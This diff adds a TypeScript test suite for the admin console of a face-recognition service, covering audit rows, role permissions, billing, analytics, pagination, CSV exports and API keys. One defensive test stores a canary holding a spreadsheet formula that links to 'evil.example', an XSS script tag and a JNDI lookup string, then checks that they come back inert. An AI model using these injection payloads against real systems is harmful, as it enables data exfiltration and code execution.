@@ -1,0 +1,256 @@
+import assert from 'node:assert/strict'
+import { after, before, test } from 'node:test'
+import { consoleRoutes } from '../src/console/all.ts'
+import { assertBooks } from './gate.ts'
+import { goodPassword, ok, startConsole, type TestConsole } from './console.ts'
+import { images } from './gallery.ts'
+
+let desk: TestConsole
+before(async () => {
+  desk = await startConsole({ environment: { WRONG_KEYS_BURST: '1000' } })
+})
+after(() => desk[Symbol.asyncDispose]())
+
+const send = (method: string, path: string, body?: unknown) => desk.owner.send(method, path, body)
+const get = async (path: string) => ok(await desk.owner.get(path)).body
+
+async function play(action: string, params: object, more: object = {}) {
+  const call = { action, params, ...more }
+  return ok(await send('POST', '/playground', { projectId: desk.projectId, call })).body
+}
+
+test('every write leaves one row in the audit; a write that fails, none', async () => {
+  const audited = async () => (await get('/audit?limit=200')).items
+  const before = (await audited()).length
+  const { projectId } = desk
+  const project = `/projects/${projectId}`
+  const enrolled = await play('svc.enroll', { ...images('Ada'), groups: ['crew'] })
+  const { subjectId } = enrolled.envelope.data.results[0].value
+  const more = await play('svc.enroll', { ...images('Ada'), subjectId, duplicateCheck: 'off' })
+  const { faceId } = more.envelope.data.results[0].value
+  const minted = ok(
+    await send('POST', '/keys', { projectId, name: 'k', permissions: ['svc.detect'] }),
+  ).body
+  const invited = ok(await send('POST', '/users', { name: 'Uma', role: 'viewer' })).body
+  const other = await play('svc.enroll', { ...images('Bob') })
+  const bob = other.envelope.data.results[0].value.subjectId
+  const writes: readonly (readonly [string, string, unknown])[] = [
+    ['POST', '/projects', { name: 'second', galleryMode: 'shared' }],
+    ['PATCH', project, { burst: 50 }],
+    ['POST', `/keys/${minted.keyId}/revoke`, { confirm: 'k' }],
+    ['PATCH', `${project}/subjects/${subjectId}`, { displayName: 'Ada L.' }],
+    ['DELETE', `${project}/subjects/${subjectId}/faces/${faceId}`, undefined],
+    ['DELETE', `${project}/subjects/${bob}`, { confirm: bob.slice(0, 8) }],
+    ['DELETE', `${project}/groups/crew`, { confirm: 'crew' }],
+    ['POST', '/money/top-up', { amountMicros: '1000000', note: 'more' }],
+    ['POST', '/money/allocate', { projectId, amountMicros: '500000' }],
+    ['PUT', '/money/prices/svc.detect', { unitMicros: '2000' }],
+    ['PATCH', `/users/${invited.user.userId}`, { role: 'admin' }],
+    ['POST', `/users/${invited.user.userId}/invite`, undefined],
+    ['POST', '/password', { current: goodPassword, next: goodPassword }],
+  ]
+  for (const [method, path, body] of writes) ok(await send(method, path, body))
+  const wrong = await send('POST', `/keys/${minted.keyId}/revoke`, { confirm: 'no' })
+  assert.equal(wrong.status, 422)
+  const guest = desk.visitor()
+  ok(await guest.send('POST', '/sign-in', { name: 'Olga', password: goodPassword }))
+  ok(await guest.send('POST', '/sign-out'))
+  const acts = (await audited()).map(({ act }: { act: string }) => act)
+  assert.equal(acts.length, before + 3 + 2 + writes.length + 2)
+  const known = consoleRoutes.flatMap((route) => ('act' in route ? [route.act] : []))
+  for (const act of known) assert.ok(acts.includes(act), `${act} is audited`)
+  await assertBooks(desk.gallery)
+})
+
+test('a viewer reads and changes nothing; an admin changes all but users and prices', async () => {
+  const [viewer, admin] = [await desk.member('viewer'), await desk.member('admin')]
+  for (const route of consoleRoutes) {
+    if (route.who === 'stranger' || ['/sign-out', '/password'].includes(route.path)) continue
+    const path = route.path.replaceAll(/:\w+/gu, '00000000-0000-4000-8000-000000000000')
+    const body = route.method === 'GET' ? undefined : {}
+    const seen = await viewer.send(route.method, path, body)
+    const isAllowed = route.method === 'GET'
+    assert.equal(seen.status === 403, !isAllowed, `${route.method} ${path}: ${seen.status}`)
+    const done = await admin.send(route.method, path, body)
+    assert.equal(done.status === 403, route.who === 'owner', `${route.method} ${path}`)
+    const stranger = await desk.visitor().send(route.method, path, body)
+    assert.equal(stranger.status, 401, `${route.method} ${path}`)
+  }
+})
+
+test('the playground is billed, logged and counted like any call, under a key nobody sees', async () => {
+  const before = await get('/overview')
+  const played = await play('svc.detect', images('Cleo'), { debug: true })
+  assert.equal(played.envelope.ok, true)
+  assert.equal(played.status, 200)
+  assert.ok(BigInt(played.costMicros) > 0n)
+  const { requestId } = played.envelope
+  const { items } = await get(`/log?requestId=${requestId}`)
+  assert.equal(items.length, 1)
+  assert.equal(items[0].keyName, 'Console playground')
+  assert.equal(items[0].costMicros, played.costMicros)
+  const call = await get(`/log/${items[0].callId}`)
+  assert.equal(call.transfer.amountMicros, played.costMicros)
+  assert.equal(call.attempt.answerKept, true)
+  const keys = (await get('/keys')).items.map(({ name }: { name: string }) => name)
+  assert.ok(!keys.includes('Console playground'))
+  const after = await get('/overview')
+  assert.equal(after.calls, before.calls + 1)
+  const spent = BigInt(after.spentMicros) - BigInt(before.spentMicros)
+  assert.equal(String(spent), played.costMicros)
+  const refused = await play('svc.nothing', {})
+  assert.equal(refused.envelope.errors[0].code, 'INVALID_REQUEST')
+  assert.equal(refused.costMicros, '0')
+})
+
+test('charts count what the log holds, and the log reconciles with the ledger', async () => {
+  await play('svc.verify', { images: [image('Dan'), image('Dan')] })
+  await play('svc.verify', { images: [image('Dan'), image('Eve')] })
+  const log = (await get('/log?limit=200')).items as { action: string; costMicros: string }[]
+  const byAction = await get('/analytics/calls?by=action&bucket=day')
+  for (const { name, total } of byAction.series)
+    assert.equal(total, log.filter(({ action }) => action === name).length, name)
+  const spend = await get('/analytics/spend?by=project')
+  const cost = log.reduce((sum, row) => sum + BigInt(row.costMicros), 0n)
+  assert.equal(spend.series[0].totalMicros, String(cost))
+  const latency = await get('/analytics/latency')
+  assert.ok(latency.overall.p50 > 0 && latency.overall.p50 <= latency.overall.p99)
+  const scores = await get('/analytics/scores?kind=similarity')
+  assert.equal(scores.counts.length + 1, scores.edges.length)
+  assert.equal(scores.total, 2)
+  assert.equal(scores.matched, 1)
+  assert.equal(scores.counts[49], 1)
+  assert.equal(scores.threshold, 0.8)
+  const reconciled = await get('/money/reconcile')
+  assert.equal(reconciled.ok, true)
+  assert.equal(reconciled.logMicros, String(cost))
+  const verified = await get('/money/verify')
+  assert.deepEqual([verified.ok, verified.checks.length], [true, 9])
+  assert.deepEqual((await get(`/projects/${desk.projectId}/deletions/check`)).ok, true)
+})
+
+test('pages stay as they are while calls are added, and nobody is listed twice', async () => {
+  for (let at = 0; at < 5; at++) await play('svc.detect', images(`Page ${at}`))
+  const seen: number[] = []
+  let cursor: string | null = ''
+  while (cursor !== null) {
+    const page = await get(`/log?limit=3${cursor && `&cursor=${cursor}`}`)
+    seen.push(...page.items.map(({ callId }: { callId: number }) => callId))
+    cursor = page.nextCursor
+    if (seen.length < 7) await play('svc.detect', images('Later'))
+  }
+  assert.equal(new Set(seen).size, seen.length)
+  assert.deepEqual(
+    seen,
+    [...seen].sort((a, b) => b - a),
+  )
+  assert.equal((await desk.owner.get('/log?cursor=nonsense')).status, 422)
+  assert.equal((await desk.owner.get('/log?limit=201')).status, 422)
+  assert.equal((await desk.owner.get('/log?unknown=1')).status, 422)
+})
+
+test('T59: what callers wrote is text everywhere, and no formula in a sheet', async () => {
+  const canary = '=HYPERLINK("https://evil.example?x=1"),<script>alert(1)</script>'
+  const externalId = `${canary}\r\n${'$'}{jndi:ldap://x}`
+  const enrolled = await play('svc.enroll', { ...images('Fay'), externalId })
+  const { subjectId } = enrolled.envelope.data.results[0].value
+  const project = `/projects/${desk.projectId}`
+  const found = await desk.owner.get(`${project}/subjects/${subjectId}`)
+  assert.equal(found.body.externalId, externalId)
+  assert.match(found.headers.get('content-type') ?? '', /^application\/json/u)
+  assert.equal(found.headers.get('x-content-type-options'), 'nosniff')
+  assert.equal(found.headers.get('access-control-allow-origin'), null)
+  assert.match(found.headers.get('content-security-policy') ?? '', /frame-ancestors 'none'/u)
+  ok(await send('DELETE', `${project}/subjects/${subjectId}`, { confirm: subjectId.slice(0, 8) }))
+  const sheet = ok(await desk.owner.get(`${project}/deletions.csv?subjectId=${subjectId}`))
+  assert.match(sheet.headers.get('content-type') ?? '', /^text\/csv/u)
+  assert.ok(sheet.text.includes(`"'=HYPERLINK(""https`), sheet.text)
+  assert.equal(
+    sheet.text.split('\r\n')[0],
+    'deletionId,subjectId,tenantId,groups,externalId,embeddingCount,deletedAtUtc',
+  )
+})
+
+test('a sheet holds the whole list, with negative amounts as numbers', async () => {
+  const { projectId } = desk
+  ok(await send('POST', '/money/allocate', { projectId, amountMicros: '-1' }))
+  const sheet = ok(await desk.owner.get('/money/ledger.csv?kind=allocate'))
+  const { items } = await get('/money/ledger?kind=allocate&limit=200')
+  assert.equal(sheet.text.trimEnd().split('\r\n').length, items.length + 1)
+  const log = ok(await desk.owner.get('/log.csv'))
+  assert.match(log.text, /^callId,atUtc,keyId/u)
+  assert.ok(!log.text.includes('base64'))
+})
+
+test('the gallery is switched only by who repeats what it means', async () => {
+  const made = ok(
+    await send('POST', '/projects', { name: 'switched', galleryMode: 'isolated' }),
+  ).body
+  const path = `/projects/${made.projectId}`
+  const preview = await get(`${path}/gallery-mode-preview`)
+  const blind = await send('PATCH', path, { galleryMode: 'shared' })
+  assert.equal(blind.status, 422)
+  assert.equal(blind.body.problems[0].path, 'body.statement')
+  const { statement } = preview
+  const changed = ok(await send('PATCH', path, { galleryMode: 'shared', statement })).body
+  assert.equal(changed.galleryMode, 'shared')
+  assert.equal((await send('PATCH', path, { switches: { none: true } })).status, 422)
+  assert.equal((await send('PATCH', path, { name: 'default' })).status, 409)
+  const limited = ok(await send('PATCH', path, { sustainedPerS: 5, burst: null })).body
+  assert.deepEqual([limited.sustainedPerS, limited.isBurstDefault], [5, true])
+})
+
+test('a minted key works until it is revoked; it is shown once and kept nowhere', async () => {
+  const wanted = { projectId: desk.projectId, name: 'door', permissions: ['svc.detect'] }
+  const { key, keyId } = ok(await send('POST', '/keys', wanted)).body
+  const client = desk.gallery.as(key)
+  assert.equal((await client.call('svc.detect', images('Gus'))).body.ok, true)
+  assert.equal(await client.code('svc.enroll', images('Gus')), 'FORBIDDEN')
+  const listed = JSON.stringify(await get('/keys')) + JSON.stringify(await get('/audit?limit=200'))
+  assert.ok(!listed.includes(key.slice(10, 40)))
+  ok(await send('POST', `/keys/${keyId}/revoke`, { confirm: 'door' }))
+  assert.equal((await client.call('svc.detect', images('Gus'))).status, 401)
+  const past = { ...wanted, expiresAtUtc: '2020-01-01T00:00:00Z' }
+  assert.equal((await send('POST', '/keys', past)).status, 422)
+})
+
+test('money cannot be moved that is not there; amounts are whole', async () => {
+  const { projectId } = desk
+  const much = { projectId, amountMicros: '99999999999999' }
+  assert.equal((await send('POST', '/money/allocate', much)).status, 409)
+  assert.equal((await send('POST', '/money/top-up', { amountMicros: '1.5' })).status, 422)
+  assert.equal((await send('POST', '/money/top-up', { amountMicros: '-5' })).status, 409)
+  const money = await get('/money')
+  const { spentMicros, allocatedMicros, balanceMicros } = money.projects[0]
+  assert.equal(BigInt(spentMicros), BigInt(allocatedMicros) - BigInt(balanceMicros))
+})
+
+test('the pages that only show answer in the form that they promise', async () => {
+  for (const path of ['/actions', '/errors', '/permissions', '/models', '/system', '/users'])
+    ok(await desk.owner.get(path))
+  const actions = (await get('/actions')) as {
+    name: string
+    imagesMin: number
+    imagesMax: number
+  }[]
+  const bounds = actions.map(({ name, imagesMin, imagesMax }) => [name, imagesMin, imagesMax])
+  assert.deepEqual(
+    bounds.filter(([name]) => /verify|identify|updateSubject|deleteSubject/u.test(String(name))),
+    [
+      ['svc.deleteSubject', 0, 0],
+      ['svc.identify', 1, 10],
+      ['svc.updateSubject', 0, 1],
+      ['svc.verify', 1, 10],
+    ],
+  )
+  for (const days of [1, 7, 30]) {
+    const overview = await get(`/overview?days=${days}`)
+    assert.equal(overview.series.length, days === 1 ? 24 : days)
+  }
+  const groups = await get(`/projects/${desk.projectId}/groups?q=zz`)
+  assert.deepEqual(groups, { items: [], nextCursor: null })
+})
+
+function image(person: string): object {
+  return (images(person) as { images: object[] }).images[0] ?? {}
+}
